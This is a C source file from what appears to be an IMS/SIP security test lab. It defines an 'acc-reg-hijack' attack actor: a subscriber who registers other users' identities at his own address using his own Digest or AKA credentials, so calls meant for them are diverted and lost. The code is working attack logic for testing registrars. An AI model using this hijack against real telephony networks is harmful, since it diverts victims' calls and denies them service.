/* acc-reg-hijack - a customer who registers others at his own address, by his own credentials. */
#include <stdlib.h>
#include <string.h>

#include "lab/attacker/harm.h"
#include "lab/attacker/imposter.h"
#include "lab/auth/aka.h"
#include "lab/base/memory.h"
#include "lab/base/slice.h"
#include "lab/base/text.h"
#include "lab/sip/scan.h"

typedef struct {
  RdImposterAim aim;
  int64_t own;
} Config;

static const RdParam params[] = {
    RD_PARAM(Config, "own-subscriber", RD_INTEGER, own, "200000", 0, 4e9, "",
             "Index of the customer that the attacker is, at the registrar, which has to be "
             "provisioned with it; put it behind the phones of the topology."),
    RD_IMPOSTER_ROWS(Config, "20", "5",
                     "Points of legitimate calls lost from which it has succeeded."),
    RD_PARAM_END};

typedef struct {
  RdImposter *im;
  RdHost *host;
  RdProvision own; /* reaches as far as the own subscriber */
  uint64_t index, sqn;
  char claim[512]; /* who it says it is in its first REGISTER, as phones do (TS 24.229 s5.1.1.2) */
  uint32_t calls;
} Hijack;

/* Whatever is asked: who he truly is. */
static bool prove(void *user, const RdImposterTry *t, RdSlice nonce, bool aka,
                  RdImposterProof *ret) {
  Hijack *h = user;
  RdAkaKeys keys;
  char auts[RD_AKA_AUTS];
  (void)t;
  rd_provision_impi(&h->own, h->index, ret->username);
  rd_provision_keys(&h->own, h->index, keys.k, keys.opc);
  if (aka) {
    ret->len = RD_AKA_RES;
    return rd_aka_answer(&keys, nonce, &h->sqn, ret->password, auts) == RD_AKA_OK;
  }
  RdText text = rd_text((char *)ret->password, sizeof ret->password);
  for (size_t i = 0; i < sizeof keys.k; i++)
    rd_text_hex(&text, keys.k[i], 2);
  ret->len = text.len;
  return true;
}

static bool ask(void *user, const RdImposterTry *t, RdSipRequest *r) {
  const Hijack *h = user;
  (void)t;
  if (!r->authorization.at)
    r->authorization = rd_slice(h->claim);
  return true;
}

static const RdImposterOps ops = {.ask = ask, .prove = prove};

static void write_claim(Hijack *h, const char *realm) {
  char impi[RD_IDENTITY_TEXT];
  rd_provision_impi(&h->own, h->index, impi);
  RdText t = rd_text(h->claim, sizeof h->claim);
  rd_text_add(&t, "Digest username=\"");
  rd_text_add(&t, impi);
  rd_text_add(&t, "\", realm=\"");
  rd_text_add(&t, realm);
  rd_text_add(&t, "\", nonce=\"\", uri=\"sip:");
  rd_text_add(&t, realm);
  rd_text_add(&t, "\", response=\"\"");
}

static void *open_hijack(RdHost *host, const void *config, const RdActorSetup *setup) {
  const Config *c = config;
  RdProvision own;
  if (!rd_provision_init(&own, c->aim.secret, (uint64_t)c->aim.spread, (uint64_t)c->own + 1)) {
    host->log(host, RD_LOG_ERROR, "own-subscriber does not fit into ten digits");
    return NULL;
  }
  Hijack *h = rd_alloc(sizeof *h);
  *h = (Hijack){.host = host, .own = own, .index = (uint64_t)c->own};
  h->calls = host->counter(host, "calls-taken");
  write_claim(h, c->aim.realm);
  h->im = rd_imposter_new(host, setup, &c->aim, &ops, h);
  if (h->im)
    return h;
  free(h);
  return NULL;
}

static void start(void *self) {
  rd_imposter_start(((Hijack *)self)->im);
}

/* Calls that were meant for others end here, and nobody answers. */
static void receive(void *self, const RdMessage *m) {
  Hijack *h = self;
  if (m->kind == RD_DATA && m->sip && m->sip->is_request && m->sip->method == RD_SIP_INVITE)
    h->host->count(h->host, h->calls, 1);
  rd_imposter_receive(h->im, m);
}

static void timer(void *self, RdTimer id, uint64_t source) {
  (void)id;
  rd_imposter_timer(((Hijack *)self)->im, source);
}

static void close_hijack(void *self) {
  rd_imposter_free(((Hijack *)self)->im);
  free(self);
}

static void success(const RdEvidence *evidence, const void *config, RdSuccess *ret) {
  rd_harm_to(evidence, RD_ATTEMPT_CALL, ((const Config *)config)->aim.threshold, ret);
}

RD_PART(RD_ATTACK, "acc-reg-hijack",
        "A customer who registers other people at his own address, by his own credentials.",
        RD_CONFIG(Config, params),
        RD_ACTOR_OPS(.open = open_hijack, .start = start, .receive = receive, .timer = timer,
                     .close = close_hijack, .entities = rd_imposter_entities, .success = success),
        .interface = RD_IF_GM, .family = "acc");
